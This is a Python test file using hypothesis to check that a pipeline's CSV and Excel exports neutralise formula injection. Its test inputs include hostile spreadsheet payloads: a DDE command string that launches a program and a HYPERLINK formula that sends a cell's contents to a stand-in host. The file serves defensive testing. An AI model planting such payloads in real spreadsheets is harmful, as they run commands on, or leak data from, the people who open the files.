"""No cell that leaves the plan is a formula, whoever wrote it and whatever it is written to."""

from __future__ import annotations

import ast
import csv
import io
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import pipelines
from pipelines.delimited import csv_bytes
from pipelines.directory.render import render
from pipelines.directory.sections import Section
from pipelines.sheets import Book
from schemas.formulas import as_meant, harmless

ON = date(2026, 10, 28)
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20", " =", "\u00a0@", "\t=", "\n+")
PAYLOADS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example?"&A1)', "SUM(A1)", "", "'", '"')

hostile = st.builds(str.__add__, st.sampled_from(STARTS), st.sampled_from(PAYLOADS))
plain = st.text(st.characters(codec="utf-8", exclude_categories=["Cs", "Cc", "Cn"]), max_size=12)
cells = st.lists(st.lists(hostile | plain, min_size=2, max_size=2), min_size=1, max_size=4)


def calculated(cell: str) -> bool:
    """Tell what the spreadsheet programs calculate, blanks in front or not."""
    return cell[:1] in {"\t", "\r", "\n"} or cell.strip()[:1] in {"=", "+", "-", "@", "＝", "＋", "－", "＠"}  # noqa: RUF001


def written(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


@settings(max_examples=60, deadline=None)
@given(cells)
def test_no_cell_of_a_csv_is_calculated_and_each_is_what_was_meant(rows: list[list[str]]) -> None:
    found = written(csv_bytes(rows))
    assert not any(calculated(cell) for row in found for cell in row)
    for row, given_row in zip(found, rows, strict=True):
        for cell, meant in zip(row, given_row, strict=True):
            assert cell.removeprefix("'") == meant.removeprefix("'")


@settings(max_examples=30, deadline=None)
@given(cells)
def test_no_cell_heading_or_note_of_a_workbook_is_a_formula_or_a_link(rows: list[list[str]]) -> None:
    book = Book("list", ON)
    book.table("Sheet", rows[0], rows, above=rows[0])
    with zipfile.ZipFile(io.BytesIO(book.close())) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml")
        assert not any("externalLink" in name or "connections" in name for name in parts.namelist())
    assert b"<f>" not in sheet
    assert b"<hyperlink" not in sheet
    filled = [cell.get("t") for cell in ET.fromstring(sheet).iter(f"{{{MAIN}}}c") if len(cell)]  # noqa: S314
    assert set(filled) <= {"s"}
    assert len(filled) == sum(cell != "" for row in (rows[0], rows[0], *rows) for cell in row)


@settings(max_examples=30, deadline=None)
@given(cells)
def test_no_cell_of_an_edition_of_the_directory_is_calculated(rows: list[list[str]]) -> None:
    section = Section("key", "Title", "", {"a": "first", "b": "second"}, tuple(tuple(row) for row in rows))
    found = written(render([section, section], "csv", ON))
    assert len(found) == 2 * (len(rows) + 2) + 1
    assert not any(calculated(cell) for row in found for cell in row)


@given(hostile | plain)
def test_the_mark_comes_off_again_and_is_never_put_twice(cell: str) -> None:
    assert harmless(harmless(cell)) == harmless(cell)
    assert as_meant(harmless(cell)) == as_meant(cell)
    if not cell.startswith("'"):
        assert as_meant(harmless(cell)) == cell


def calls(path: Path) -> Iterator[str]:
    """Yield the names that a module calls, as far as they are attributes: `csv.writer` is `writer`."""
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            yield node.func.attr


WRITERS = {"writer": "delimited.py", "DictWriter": "", "Workbook": "sheets.py", "to_csv": "", "to_excel": "",
           "write_formula": "", "write_url": "", "write_rich_string": "", "write_array_formula": ""}  # fmt: skip


@pytest.mark.parametrize("call", WRITERS)
def test_tables_for_people_are_written_in_one_place_each(call: str) -> None:
    root = Path(next(iter(pipelines.__path__)))
    found = {path.name for path in root.rglob("*.py") if call in set(calls(path))}
    assert found == {WRITERS[call]} - {""}
